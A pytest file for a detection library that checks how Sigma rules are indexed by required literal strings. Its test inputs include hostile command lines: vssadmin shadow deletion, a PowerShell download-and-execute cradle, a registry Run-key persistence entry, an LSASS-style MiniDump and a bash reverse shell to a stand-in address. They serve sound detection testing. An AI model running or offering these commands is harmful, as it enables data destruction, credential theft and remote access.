"""Strings that a condition cannot match without: of patterns, of whole rules, and that looking up loses no match."""

import pytest
import yaml

from schemas import Alert, Field
from secassist.detectors._literals import of_pattern
from secassist.detectors._sigma import parsing
from secassist.detectors._sigma.fields import of_alert
from secassist.detectors._sigma.index import Index
from secassist.detectors._sigma.parsing import RULES, identity, parsed, shipped
from secassist.detectors._sigma.rules import load_rules


@pytest.mark.parametrize(
    ("pattern", "found"),
    [
        (r"(?i)certutil(\.exe)?\s.{0,20}-decode", {"certutil"}),
        (r"abc|de", {"abc", "de"}),
        (r"abc|\d", None),
        (r"ab?cdef", {"cdef"}),
        (r"(ab|cde)?xyz", {"xyz"}),
        (r"(foo|barbar)+", {"foo", "barbar"}),
        (r"ab{0,3}", {"a"}),
        (r"[a-z\]]+end", {"end"}),
        (r"[]x]end", {"end"}),
        (r"\\run\\", {"\\run\\"}),
        (r"\x27quoted", None),
        (r"(?:one)two", {"one"}),
        (r".*", None),
        (r"open(", None),
    ],
)
def test_required_strings_of_a_pattern(pattern: str, found: set[str] | None) -> None:
    assert of_pattern(pattern) == found


def test_what_ships_for_looking_rules_up_is_what_they_require() -> None:
    """Else write it anew: python -m secassist.detectors._sigma.parsing"""
    texts = [path.read_text("utf-8") for path in RULES.rglob("*.y*ml")]
    rules = [rule for text in texts for rule in yaml.safe_load_all(text) if rule]
    assert shipped() == {identity(rule): parsed(rule)[1] for rule in rules}


def test_a_rule_that_is_listed_is_parsed_when_it_is_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[object] = []
    monkeypatch.setattr(parsing, "parsed", lambda rule: asked.append(rule) or parsed(rule))
    load_rules.cache_clear()
    index = Index(load_rules().rules)
    event = of_alert(Alert(source="t", fields=(Field(path="process.command_line", value="vssadmin delete shadows"),)))
    assert not asked
    assert any(rule.match(event) for rule in index.possible("vssadmin delete shadows"))
    assert 0 < len(asked) < len(index.rules) / 10


def test_few_rules_are_always_run() -> None:
    rules = load_rules().rules
    assert sum(1 for rule in rules if not rule.literals) < len(rules) / 20


@pytest.mark.parametrize(
    "value",
    [
        "vssadmin delete shadows /all /quiet",
        "powershell -nop -w hidden -ep bypass IEX (New-Object Net.WebClient).DownloadString('http://x.example')",
        "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v X /d c:\\x.exe",
        "RUNDLL32 C:\\Windows\\comsvcs.dll, MiniDump 640 x.dmp full",
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "nothing of note",
    ],
)
def test_looking_up_by_strings_loses_no_match(value: str) -> None:
    rules = load_rules().rules
    event = of_alert(Alert(source="t", fields=(Field(path="command", value=value),)))
    possible = Index(rules).possible(event.text)
    assert [r.slug for r in possible if r.match(event)] == [r.slug for r in rules if r.match(event)]
